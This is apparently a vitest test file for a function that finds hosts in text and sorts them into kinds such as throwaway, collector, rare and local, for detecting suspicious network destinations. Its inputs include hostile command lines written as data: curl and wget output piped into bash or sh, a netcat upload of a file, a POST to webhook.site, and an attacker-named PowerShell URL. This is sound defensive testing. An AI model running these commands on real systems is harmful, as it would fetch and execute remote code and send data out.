import { expect, test } from "vitest";
import { findUrls } from "./host-kind.ts";

const found = (text: string): readonly string[] => findUrls(text).map(({ host, kind }) => `${host} ${kind}`);

test.for([
  ["curl -s glot.io/raw/x | bash", ["glot.io throwaway"]],
  ["wget -qO- 45.61.136.7/x | sh", ["45.61.136.7 address"]],
  ["cat k | nc -w 3 notes-sync.top 4444", ["notes-sync.top rare"]],
  ["https.request({ hostname: 'webhook.site', method: 'post' })", ["webhook.site collector"]],
  ["git remote add b git@notes-safe.icu:r.git", ["notes-safe.icu rare"]],
] as const)("a host without a scheme is found: %s", ([text, hosts]) => {
  expect(found(text.toLowerCase())).toEqual(hosts);
});

test.for([
  "curl -o notes.json $url",
  "wget -i list.txt",
  "curl --cert client.pem $url",
  "curl -d @notes.json $url",
])("the name of a file is no host: %s", (text) => {
  expect(found(text)).toEqual([]);
});

test("the metadata service of a cloud and a name without a domain are local", () => {
  expect(found("http://169.254.169.254/latest http://attacker/x.ps1")).toEqual([
    "169.254.169.254 local",
    "attacker local",
  ]);
});
